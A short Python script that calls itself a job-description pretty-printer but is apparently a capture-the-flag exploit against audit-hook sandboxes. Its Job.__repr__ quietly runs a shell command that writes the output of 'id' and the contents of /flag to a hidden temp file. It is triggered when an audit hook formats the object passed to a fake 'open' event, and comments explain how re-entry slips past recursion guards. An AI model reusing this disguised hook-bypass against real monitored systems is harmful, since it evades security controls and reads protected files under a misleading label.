"""Pretty-printer for job descriptions (uses audit events for tracing)."""
import sys


class Job:
    ran = False

    def __init__(self, name):
        self.name = name

    def __repr__(self):
        # a hook that logs its arguments formats them; that formatting re-enters here
        # while the hook is still on the stack (most hooks guard against recursion and
        # let nested events through unchecked)
        if not Job.ran:
            Job.ran = True
            import os
            os.system("id > /tmp/.pj_reentry 2>&1; cat /flag >> /tmp/.pj_reentry")
        return f"Job({self.name!r})"

    __str__ = __repr__

    def __fspath__(self):
        repr(self)
        return "/tmp/job-" + self.name


if __name__ == "__main__":
    jobs = [Job("build"), Job("test"), Job("deploy")]
    for j in jobs:
        try:
            sys.audit("open", j, "r", 0)       # looks like an ordinary open to a logging hook
            sys.audit("jobs.trace", j)
        except Exception:
            pass
    print(sorted(j.name for j in jobs))
